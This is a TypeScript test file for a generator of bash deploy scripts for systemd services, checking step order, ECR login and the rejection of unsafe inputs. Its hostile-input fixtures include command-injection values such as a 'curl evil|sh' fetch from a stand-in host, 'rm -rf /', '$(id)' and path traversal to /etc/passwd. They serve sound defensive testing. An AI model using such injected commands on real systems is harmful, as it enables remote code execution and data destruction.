import { execFileSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { UnsafeValueError } from "./shell";
import { imageRegistry, systemdScript, type SystemdScriptInput } from "./systemd-script";

const base: SystemdScriptInput = {
  deployLabel: "20261123-090000-atta-ab12",
  region: "us-east-1",
  bucket: "atta-deploy-artifacts",
  key: "bundles/dev/deploy-bundle-0.1.30-dev.tar.gz",
  sha256: "b".repeat(64),
  unit: "atta",
  serviceDir: "/opt/atta",
  unitDir: "/etc/systemd/system",
  image: "123456789012.dkr.ecr.us-east-1.amazonaws.com/atta",
  owner: "ubuntu:ubuntu",
  settleSeconds: 3,
};

function bashSyntaxOk(script: string): void {
  const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "deckhand-script-")), "deploy.sh");
  fs.writeFileSync(file, script);
  execFileSync("bash", ["-n", file]);
}

describe("systemd host script", () => {
  const shapes: Record<string, SystemdScriptInput> = {
    "systemd-ecr": base,
    "systemd-presigned-url": {
      ...base,
      bundleBytes: 4096,
      extractPaths: ["VERSION", "deploy"],
      download: { mode: "presigned-url", url: "https://atta-deploy-artifacts.s3.us-east-1.amazonaws.com/bundles/dev/deploy-bundle-0.1.30-dev.tar.gz?X-Amz-Signature=0123abcd" },
    },
    "systemd-other-registry": { ...base, image: "registry.example.com:5000/team/atta" },
  };
  for (const [name, input] of Object.entries(shapes)) {
    it(`matches the golden script ${name} and is bash -n clean`, async () => {
      const script = systemdScript(input);
      await expect(script).toMatchFileSnapshot(`./golden/${name}.sh`);
      bashSyntaxOk(script);
    });
  }

  it("runs the pre-flight first, verifies sha256 before extracting, and checks VERSION before touching the host", () => {
    const script = systemdScript(base);
    expect(script.split("\n").slice(0, 3)).toEqual(["#!/bin/bash", expect.any(String), "set -euo pipefail"]);
    const lastCheck = script.indexOf("preflight_disk '/opt/atta'");
    expect(lastCheck).toBeGreaterThan(0);
    const verify = script.indexOf('if [ "$ACTUAL_SHA256" != "$EXPECTED_SHA256" ]');
    expect(verify).toBeGreaterThan(lastCheck);
    const versionCheck = script.indexOf('[[ "$VERSION" =~');
    expect(versionCheck).toBeGreaterThan(script.indexOf('tar xzf "$TMP" -C "$STAGE"'));
    for (const change of ["docker login", "docker pull", "sudo rm -rf", "sudo install -m 0644", "daemon-reload", "systemctl restart"]) {
      expect(script.indexOf(change)).toBeGreaterThan(versionCheck);
    }
    // seeds/002's order: pull, install the unit, daemon-reload, restart, then check it is active.
    const order = ["aws ecr get-login-password --region 'us-east-1' | sudo docker login --username AWS --password-stdin", 'sudo docker pull "$IMAGE:$VERSION"', "sudo systemctl daemon-reload", 'sudo systemctl restart "$UNIT.service"', "systemctl is-active --quiet"];
    const at = order.map((s) => script.indexOf(s));
    expect(at.every((i) => i > 0)).toBe(true);
    expect([...at].sort((a, b) => a - b)).toEqual(at);
  });

  it("logs in only to an ECR registry, with the registry's own region", () => {
    expect(imageRegistry(base.image)).toEqual({ registry: "123456789012.dkr.ecr.us-east-1.amazonaws.com", ecrRegion: "us-east-1" });
    expect(imageRegistry("registry.example.com:5000/team/atta")).toEqual({ registry: "registry.example.com:5000", ecrRegion: null });
    expect(systemdScript(shapes["systemd-other-registry"]!)).not.toContain("docker login");
  });

  const hostile: [keyof SystemdScriptInput, unknown][] = [
    ["unit", "atta; reboot"],
    ["unit", "../../etc/passwd"],
    ["unit", "a b"],
    ["serviceDir", "/opt/atta$(id)"],
    ["serviceDir", "opt/atta"],
    ["unitDir", "/etc/systemd/../../root"],
    ["image", "123456789012.dkr.ecr.us-east-1.amazonaws.com/atta:latest"],
    ["image", "evil.example/x'; curl evil|sh; '"],
    ["image", "UPPER/case"],
    ["bucket", "bucket$(id)"],
    ["key", "bundles/x.tar.gz' ; reboot; '"],
    ["region", "us-east-1`id`"],
    ["sha256", "abc"],
    ["owner", "root;id"],
    ["deployLabel", "x'y"],
    ["extractPaths", ["deploy; rm -rf /"]],
    ["settleSeconds", 1.5],
    ["settleSeconds", "3; reboot"],
    ["bundleBytes", -1],
  ];
  for (const [field, value] of hostile) {
    it(`refuses a hostile ${field}: ${JSON.stringify(value)}`, () => {
      expect(() => systemdScript({ ...base, [field]: value })).toThrow(UnsafeValueError);
    });
  }

  it("on the host, refuses a VERSION that is not an image tag before anything changes", () => {
    // Run only the VERSION check the script uses, against hostile file contents.
    const line = systemdScript(base).split("\n").find((l) => l.startsWith('[[ "$VERSION" =~'))!;
    for (const [content, ok] of [["0.1.30-dev\n", true], ["1.2.3", true], ["$(reboot)", false], ["1.0; rm -rf /", false], ["../x", false], ["", false]] as const) {
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), "deckhand-version-"));
      fs.writeFileSync(path.join(dir, "VERSION"), content);
      const script = `set -euo pipefail\nVERSION="$(head -c 256 '${dir}/VERSION' | head -n 1 | tr -d '[:space:]')"\n${line}\necho "ok:$VERSION"`;
      let out = "";
      try {
        out = execFileSync("bash", ["-c", script], { encoding: "utf8", stdio: ["ignore", "pipe", "pipe"] });
      } catch {
        out = "refused";
      }
      expect(out.startsWith("ok:")).toBe(ok);
    }
  });
});
